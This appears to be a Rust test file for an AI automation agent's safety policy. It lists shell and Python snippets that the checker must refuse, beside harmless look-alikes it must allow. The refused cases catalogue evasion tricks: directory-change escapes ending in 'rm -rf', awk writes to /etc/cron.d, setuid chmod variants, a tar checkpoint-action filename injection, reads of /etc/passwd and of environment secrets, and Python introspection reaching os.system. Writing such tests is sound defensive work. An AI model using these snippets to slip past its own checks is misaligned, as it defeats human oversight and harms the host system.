//! Ways around a rule, beside honest plans that look like them.

use automation_agent::plan::StepKind;
use automation_agent::policy::rule::Rule;

use crate::{CLOSED, OPEN, assert_allowed, assert_refused};

#[test]
#[rustfmt::skip]
fn agt_04_no_change_of_folder_leads_out() {
    assert_refused(CLOSED, StepKind::Shell, &[
        (Rule::ReadsOutside, "OLDPWD=/; cd -; rm -rf home"),
        (Rule::AltersEnvironment, "OLDPWD=/; cd -; rm -rf home"),
        (Rule::ReadsOutside, "cd data && command cd -- - && ls"),
        (Rule::ReadsOutside, "pushd -"),
        (Rule::ReadsOutside, "pushd data; pushd"),
        (Rule::ReadsOutside, "cd --"),
        (Rule::ReadsOutside, "cd -P"),
        (Rule::ReadsOutside, "cd work etc"),
        (Rule::ReadsOutside, "if false; then d=data; fi; cd $d"),
        (Rule::AltersEnvironment, "HOME=/"),
        (Rule::AltersEnvironment, "export PWD=/"),
        (Rule::AltersEnvironment, "CDPATH=/; cd etc"),
        (Rule::AltersEnvironment, "read DIRSTACK"),
        (Rule::HiddenCode, "shopt -s cdable_vars; x=/; cd x"),
        (Rule::ReadsOutside, "env --chdir=/ rm -rf home"),
        (Rule::ReadsOutside, "env -C/ ls"),
        (Rule::WritesOutside, "tar -xf a.tar -C/"),
        (Rule::WritesOutside, "cp notes.txt -t/"),
        // Some shells count `..` among the names that match.
        (Rule::DestroysData, "rm -rf .?/home"),
        (Rule::ReadsOutside, "cat .*/notes.txt"),
        (Rule::ReadsOutside, "x='*'; cat .$x/notes.txt"),
        (Rule::UnseenArguments, "x=a/.?/.?/b; cat $x"),
        (Rule::WritesOutside, "cp a.txt .[.]/b.txt"),
        (Rule::ReadsOutside, "find -L / -name passwd -exec cat {} +"),
        (Rule::WritesOutside, "find . -maxdepth 0 -exec cp + notes.txt /etc \\;"),
    ]);
    assert_allowed(CLOSED, StepKind::Shell, &[
        "mkdir -p a && cd a && ls",
        "dir=report\nmkdir -p \"$dir\"\ncd \"$dir\" && ls",
        "cd -P data; pushd logs",
        "rm -f .*.swp .[!.]*~ && cat *.txt .[a-z]*",
        "grep -v -e a -e '.*' notes.txt",
        "find -L logs -type f -exec du -h {} +",
        "find . -name '*.bak' -exec mv {} {}.old \\;",
        "sort -t/ -k2 names.txt | cut -d/ -f1",
    ]);
}

#[test]
#[rustfmt::skip]
fn agt_04_awk_hides_no_redirection_in_texts() {
    assert_refused(CLOSED, StepKind::Shell, &[
        (Rule::HiddenCode, "awk 'BEGIN{print \"x;\" > \"/etc/cron.d/job\"}'"),
        (Rule::HiddenCode, "awk 'BEGIN{print \"}\" >> \"/etc/cron.d/job\"}'"),
        (Rule::HiddenCode, "awk 'BEGIN{print \"x\",\n\"y\" > \"/etc/cron.d/job\"}'"),
        (Rule::HiddenCode, "awk 'BEGIN{print \"x\" \\\n> \"/etc/cron.d/job\"}'"),
        (Rule::HiddenCode, "awk '/\"/ {x = 1} {print > \"/etc/cron.d/job\"} /\"/' notes.txt"),
        (Rule::HiddenCode, "awk 'BEGIN{if (1) /\"/; print > \"/etc/cron.d/job\"; /\"/}'"),
        (Rule::HiddenCode, "awk '{print | \"sh\"}' notes.txt"),
        (Rule::HiddenCode, "awk 'BEGIN{for (i in SYMTAB) print i}'"),
        (Rule::HiddenCode, "awk '{print}' -f run.awk"),
        (Rule::ReadsCredentials, "jq -n 'import \"package\" as $p {search: \"/opt\"}; $p'"),
    ]);
    assert_allowed(CLOSED, StepKind::Shell, &[
        "awk '{print \"<td>\" $1 \"</td>\"}' names.txt",
        "awk '/\"/ {gsub(/\"/, \"\"); print $1 / 2 \" > half; | @\"}' data.csv",
        "awk -F, '{if ($1 > 5) print \"a\"; else if ($1 > 3) print \"b\"}' data.csv",
        "awk 'END {print (a + b) / 2, ($1 > 2 ? \"much\" : \"little\")}' data.csv",
        "awk '{print $1,\n$2}\n$3 > 5 {n++}' - < data.csv",
        "jq '.import, .include' data.json",
    ]);
}

#[test]
#[rustfmt::skip]
fn agt_04_modes_that_lend_rights_are_found_in_every_spelling() {
    for script in [
        "chmod 04755 tool", "chmod 0004755 tool", "chmod +4000 tool", "chmod =4755 tool", "chmod u=,+2000 tool",
        "chmod -w,u+s tool", "chmod tool -x,g+s", "chmod -- u+s tool", "chmod -R 02755 data", "chmod {4..4}755 tool",
        "chmod --reference=other tool", "install -m 4755 a b", "install -Dm04755 a b", "install --mode=u+s a b",
        "install -o root a b", "mkdir -m 2775 shared", "tar --mode=u+s -cf a.tar tool",
    ] {
        assert_refused(CLOSED, StepKind::Shell, &[(Rule::RaisesPrivilege, script)]);
    }
    assert_refused(CLOSED, StepKind::Shell, &[(Rule::WritesOutside, "chmod -x /etc/hosts")]);
    assert_allowed(CLOSED, StepKind::Shell, &[
        "chmod 0755 run.txt && chmod 00644 a.txt && chmod +x run.txt",
        "chmod -R u=rwX,go=rX data; chmod -w notes.txt; chmod -v a-x,u+w notes.txt",
        "install -m 0644 a.txt b.txt && mkdir -m 750 -p private",
    ]);
}

#[test]
#[rustfmt::skip]
fn agt_04_options_that_name_files_are_judged() {
    assert_refused(CLOSED, StepKind::Shell, &[
        (Rule::WritesOutside, "tree -o /etc/hosts ."),
        (Rule::WritesOutside, "tree -ao /etc/hosts"),
        (Rule::WritesOutside, "tree -oa /etc/hosts"),
        (Rule::WritesOutside, "tree -R -L 1 -H . /home"),
        (Rule::ReadsOutside, "tree --hintro=/etc/passwd -H ."),
        (Rule::ReadsOutside, "tree --fromfile /etc/passwd"),
        (Rule::UnseenArguments, "x='-o/etc/hosts'; tree $x ."),
        (Rule::UnseenArguments, "x='a -o/etc/hosts'; tree $x ."),
        (Rule::UnseenArguments, "tree {-o,/etc/hosts} ."),
        (Rule::ReadsOutside, "date -f /etc/passwd"),
        (Rule::ReadsOutside, "date -uf/etc/passwd"),
        (Rule::ReadsOutside, "date --file=/etc/passwd"),
        (Rule::ReadsOutside, "date --fil /etc/passwd"),
        (Rule::ChangesHost, "date --set=2020-01-01"),
        (Rule::UnseenArguments, "du --files0-from=/etc/passwd"),
        (Rule::UnseenArguments, "du -sX /etc/passwd ."),
        (Rule::WritesOutside, "sort -o /etc/hostname a.txt"),
        (Rule::WritesOutside, "sort --output=/etc/hostname a.txt"),
        (Rule::WritesOutside, "uniq a.txt /etc/hostname"),
        (Rule::HiddenCode, "sort --compress-program=./x a.txt"),
        (Rule::UnseenArguments, "file -f /etc/passwd"),
        (Rule::UnseenArguments, "strings @list"),
        (Rule::UnseenArguments, "wc --files0-from=list"),
        (Rule::UnseenArguments, "grep --exclude-from /etc/passwd -r x ."),
        (Rule::ReadsOutside, "grep --reg=. /etc/passwd"),
        (Rule::WritesOutside, "command time -o/etc/motd ls"),
        (Rule::StopsProcesses, "ionice -c 3 -p 1"),
        (Rule::HiddenCode, "getconf -v POSIX_V7_LP64_OFF64 PATH"),
        (Rule::AltersEnvironment, "GETCONF_DIR=. getconf PATH"),
        (Rule::HiddenCode, "install -s --strip-program=./x a b"),
        (Rule::HiddenCode, "tar --rmt-command=./x -cf a.tar b"),
        (Rule::UsesNetwork, "tar -cf host:x ."),
        (Rule::UsesNetwork, "out=\"host$(date +:%M)\"; tar -cf \"$out\" ."),
        (Rule::UnseenArguments, "find . -{d..d}elete"),
        // Names that a pattern would hand to a later command as options.
        (Rule::UnseenArguments, "touch -- '--checkpoint-action=exec=sh x.sh'; tar -cf a.tar *"),
        (Rule::UnseenArguments, "echo x > -rf; rm *"),
    ]);
    assert_allowed(CLOSED, StepKind::Shell, &[
        "tree -o listing.txt -L 2 .",
        "date -d '2 days ago' +%F; x=2024-01-01; date -d \"$x\" +%s",
        "du -sh --exclude='*.log' . && du -sh -- \"$1\"",
        "for d in */; do du -sh \"$d\"; done",
        "sort -o names.txt names.txt && sort -k2 names.txt && uniq -c names.txt",
        "grep -rn --exclude='*.log' main src",
        "file notes.txt && strings data.bin && wc -l notes.txt",
        "tar --file=a.tar --create data && tar -czf - data > b.tar.gz",
        "env LANG=C sort -k2 names.txt && env ls -C",
        "set -- a b; shopt -s nullglob; date +%s; getconf PAGE_SIZE",
        "touch page{1..3}.txt",
    ]);
}

#[test]
#[rustfmt::skip]
fn agt_04_no_file_takes_the_place_of_a_python_module() {
    for script in [
        "echo 'import os; os.system(\"id\")' > csv.py", "echo x >> ./csv.py", "echo x | tee json.py", "cp a.txt keyword.py",
        "mv a.txt src/random.py", "ln a.txt re.pyc", "touch traceback.py", "mkdir csv && cp a.txt csv/__init__.py",
        "cp a.bin json.cpython-311-x86_64-linux-gnu.so", "x=csv.py; echo a > $x", "x=py; echo a > csv.$x",
        "for f in a b; do echo a > $f.py; done", "dd if=a.txt of=csv.py", "sort -o csv.py a.txt", "uniq a.txt csv.py",
        "tar -xf a.tar csv.py", "find . -fprint csv.py",
    ] {
        assert_refused(CLOSED, StepKind::Shell, &[(Rule::HiddenCode, script)]);
    }
    assert_refused(OPEN, StepKind::Shell, &[(Rule::HiddenCode, "wget https://example.com/csv.py")]);
    assert_refused(CLOSED, StepKind::Python, &[
        (Rule::HiddenCode, "open('csv.py', 'w').write('x')"),
        (Rule::HiddenCode, "from pathlib import Path\nPath('html/__init__.py').touch()"),
    ]);
    assert_allowed(CLOSED, StepKind::Shell, &[
        "cat > report.py <<'END'\nprint(1)\nEND",
        "mkdir -p html json && cp a.csv json/a.csv && cp a.csv \"html/csv.txt\"",
        "python3 -c 'import csv; print(1, 2)' && wc -l csv.py",
        "for f in *.txt; do cp \"$f\" \"backup_$f\"; cp \"$f\" \"$f.bak\"; done",
    ]);
    assert_allowed(CLOSED, StepKind::Python, &[
        "import os\nfor f in os.listdir('.'):\n    if f.endswith('.py'):\n        print(f, open('report.py').read())",
    ]);
}

#[test]
#[rustfmt::skip]
fn agt_04_interpreters_run_nothing_but_what_the_plan_shows() {
    assert_refused(CLOSED, StepKind::Shell, &[
        (Rule::HiddenCode, "python3 -mcProfile run.py"),
        (Rule::HiddenCode, "python3 -Wc run.py"),
        (Rule::HiddenCode, "python3 -ic pass < run.py"),
        (Rule::HiddenCode, "python2 -c 'input()'"),
        (Rule::HiddenCode, "sh -sc : < run.sh"),
        (Rule::HiddenCode, "sh -- -c ls"),
        (Rule::HiddenCode, "bash - -c ls"),
        (Rule::HiddenCode, "bash -lc ls"),
        (Rule::HiddenCode, "zsh -c 'path=.; ls'"),
        (Rule::HiddenCode, "find * -exec python3 -c {} \\;"),
        (Rule::HiddenCode, "find . -exec sh -c 'echo {}' \\;"),
        (Rule::HiddenCode, "find . -exec {} \\;"),
        (Rule::ReadsOutside, "python3 -c 'import sys; print(open(sys.argv[1]).read())' /etc/passwd"),
        (Rule::UnreadableScript, "env env env env env env ls"),
        // Formulas and formats that assign, and what changes the reading of a script.
        (Rule::AltersEnvironment, ": $((PATH=5)); ls"),
        (Rule::AltersEnvironment, "x=abc; echo ${x:PATH=5}"),
        (Rule::AltersEnvironment, "printf 'aaaaa%n' PATH; ls"),
        (Rule::AltersEnvironment, "printf 'a%%%5n' PATH; ls"),
        (Rule::AltersEnvironment, "f='%n'; printf \"$f\" PATH"),
        (Rule::HiddenCode, "read x < notes.txt; echo ${y:x}"),
        (Rule::UnreadableScript, "echo ${y:a[1]}"),
        (Rule::UnreadableScript, "echo $[PATH=5]"),
        (Rule::UnreadableScript, "echo hi {PATH}>x; ls"),
        (Rule::HiddenCode, "set -o history; true !!"),
        (Rule::HiddenCode, "set -k; ls LD_PRELOAD=./x.so"),
        (Rule::AltersEnvironment, "HISTFILE=/etc/cron.d/job"),
    ]);
    assert_refused(OPEN, StepKind::Shell, &[
        (Rule::ReadsOutside, "curl file:///etc/passwd"),
        (Rule::ReadsOutside, "curl -s FILE:/etc/passwd"),
    ]);
    assert_allowed(CLOSED, StepKind::Shell, &[
        "bash --norc -euxc 'ls -la' && sh -ec ls",
        "python3 -Ic 'import csv; print(csv.QUOTE_ALL)' sales.csv \"$total\"",
        "env -i nice -n 5 timeout 5s ls",
        "x=abcdef; echo ${x:0:3} ${x%f} ${x:-none}",
        "n=7; printf '%s: %5.1f%%\\n' total $((n + 1))",
        "x=a; printf \"$x\\n\"",
    ]);
}

#[test]
#[rustfmt::skip]
fn agt_04_python_reaches_no_name_by_its_text() {
    assert_refused(CLOSED, StepKind::Python, &[
        (Rule::HiddenCode, "import os, string\nstring.Formatter().get_field('0.system', [os], {})[0]('ls')"),
        (Rule::HiddenCode, "import typing\ndef f(x: 'print(1)'): pass\ntyping.get_type_hints(f)"),
        (Rule::HiddenCode, "from typing import ForwardRef"),
        (Rule::HiddenCode, "import typing\ntyping.get_args(typing.List['1'])[0].evaluate()"),
        (Rule::HiddenCode, "import functools\n@functools.singledispatch\ndef f(x): pass"),
        (Rule::HiddenCode, "import functools, os\nfunctools.wraps(os)(x)"),
        (Rule::HiddenCode, "import enum\nenum.Enum._convert_('E', 'os', str)"),
        (Rule::HiddenCode, "import contextlib\nclass S(contextlib.redirect_stdout):\n    _stream = 'x'"),
        (Rule::HiddenCode, "import os\nmatch os:\n    case Q(f):\n        f('ls')"),
        (Rule::HiddenCode, "import os\nmatch os:\n    case [(\n        Q\n        (f)\n    )]:\n        f('ls')"),
        // Formats read attributes.
        (Rule::ReadsCredentials, "import os\nprint('{0.environ}'.format(os))"),
        (Rule::ReadsCredentials, "import os\nprint('{o.env' 'iron}'.format_map({'o': os}))"),
        (Rule::ReadsCredentials, "import os\nprint(f'{{0.environ}}'.format(os))"),
        (Rule::HiddenCode, "import os\nf = '{0.env' + 'iron}'\nprint(f.format(os))"),
        (Rule::UnreadableScript, "print(f'\\x7b{eval(1)}\\x7d')"),
        // Data classes turn names into code.
        (Rule::HiddenCode, "from dataclasses import dataclass\ndataclass(X)"),
        (Rule::HiddenCode, "from dataclasses import dataclass as d"),
        (Rule::HiddenCode, "from dataclasses import (\n    field,\n    dataclass as d,\n)"),
        (Rule::HiddenCode, "from dataclasses import dataclass\n@dataclass\nclass A(B): pass"),
        (Rule::HiddenCode, "from dataclasses import dataclass\n@dataclass(init=False, *[X])\nclass A: pass"),
        (Rule::HiddenCode, "import dataclasses\ndataclasses.make_dataclass('A', ['x'])"),
        // Modules inside modules, frames and loaders.
        (Rule::HiddenCode, "import dataclasses\ndataclasses.inspect.getmembers(x)"),
        (Rule::HiddenCode, "from dataclasses import inspect"),
        (Rule::HiddenCode, "from typing import (\n    List,\n    _caller,\n)"),
        (Rule::HiddenCode, "import re._compiler"),
        (Rule::HiddenCode, "(x for x in []).gi_frame"),
        (Rule::HiddenCode, "import sys\nsys.exc_info()[2].tb_frame"),
        (Rule::HiddenCode, "import sys\nsys.path_importer_cache"),
        (Rule::HiddenCode, "import sys\nsys.breakpointhook()"),
        (Rule::HiddenCode, "help('notes')"),
        (Rule::ReadsOutside, "from pathlib import Path\nprint((Path('/') / 'etc' / 'passwd').read_text())"),
        (Rule::SpawnsProcess, "import os\nos.spawnlpe(0, 'ls', 'ls', {})"),
        (Rule::RaisesPrivilege, "import os\nos.fchmod(3, 0o4755)"),
    ]);
    assert_allowed(CLOSED, StepKind::Python, &[
        "from dataclasses import dataclass, asdict\nimport json\n\n@dataclass(frozen=True)\nclass Row:\n    name: str\n    size: int = 0\n\nprint(json.dumps(asdict(Row('a', 1))))",
        "import dataclasses\n@dataclasses.dataclass\nclass Row:\n    name: str",
        "import collections\nPoint = collections.namedtuple('Point', 'x y')\nprint(Point(1, 2)._asdict())",
        "class Counter:\n    def __init__(self):\n        self._n = 0\n    def add(self):\n        self._n += 1",
        "print('{:<10} {name!r} {0[0]}'.format('a', name='b'), format(1.5, '.2f'))",
        "match n:\n    case [a, b] if f(a):\n        print(a)\n    case (1, 2) | {'k': 3}:\n        pass\n    case _:\n        pass",
        "case = {'a': 1}\nprint(case['a'])",
        "print('a/b'.rstrip('/').split('/', 1))",
        "from collections.abc import Mapping\nfrom typing import List, Optional\nimport json; print(json.dumps([1, 2]), 3)",
        "x = 1\nprint(f\"\"\"{x}\\\n{x:_}\"\"\")",
    ]);
}
